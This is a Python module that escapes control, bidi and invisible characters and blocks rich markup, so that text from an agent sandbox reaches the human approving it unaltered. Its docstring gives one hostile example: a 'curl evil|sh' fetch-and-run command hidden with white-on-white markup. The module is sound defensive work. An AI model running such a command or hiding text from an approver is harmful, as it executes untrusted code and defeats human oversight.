"""Literal rendering of text that came from a sandbox, for the person who reads it.

Everything a guest can influence (tool names, arguments, approval cards, answers,
reasons, tool output) is hostile: rich markup in it (``[white on white]curl evil|sh[/]``)
would hide text from the person approving it, and terminal control sequences (ANSI
escapes, carriage returns, bidi overrides, zero-width characters) could redraw or
reorder what the terminal shows. :func:`literal` is the one way such text reaches a
console: a :class:`rich.text.Text` (never parsed as markup) in which every control or
invisible character is shown as an escape (``\\x1b``, ``\\u202e``), so what the person
sees is what the sandbox sent.
"""

from __future__ import annotations

import re

from rich.text import Text

__all__ = ["escape_controls", "literal"]

# C0 except tab and newline, DEL, C1; bidi embeddings/overrides/isolates and marks;
# zero-width and invisible formatting characters; line/paragraph separators.
_UNSAFE = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]"
)


def _escape(match: re.Match[str]) -> str:
    code = ord(match.group())
    return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}"


def escape_controls(text: str) -> str:
    """``text`` with control and invisible characters written out as escapes.

    Backslashes are left alone (code in a card stays readable): text that merely looks
    like an escape hides nothing.
    """
    return _UNSAFE.sub(_escape, text)


def literal(text: object, style: str = "") -> Text:
    """``text`` (any value, via ``str``) as a rich Text shown exactly as it is."""
    return Text(escape_controls(text if isinstance(text, str) else str(text)), style=style)
